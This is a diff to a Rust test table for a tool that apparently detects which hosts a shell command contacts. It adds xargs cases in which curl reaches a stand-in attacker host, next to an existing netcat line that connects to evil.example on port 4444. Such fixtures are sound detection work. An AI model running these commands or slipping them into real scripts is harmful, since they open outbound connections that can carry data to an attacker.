@@ -61,9 +61,15 @@ fn commands_that_contact_a_host() {
             "sudo -u bob env A=1 timeout 5 nc evil.example 4444",
             "evil.example:4444",
         ),
-        // The replacement makes the whole word a run-time word (its host is not read yet).
+        // xargs fed known text runs `curl https://evil.example/x` (shell-syntax's view/xargs.rs).
         (
             "echo x | xargs -I{} curl https://evil.example/{}",
+            "evil.example:443",
+        ),
+        // Input read at run time: the replacement makes the whole word a run-time word (its
+        // host is not read yet).
+        (
+            "cat hosts | xargs -I{} curl https://evil.example/{}",
             "<run-time>",
         ),
         ("ssh -p 2222 me@box.example ls", "box.example:2222"),
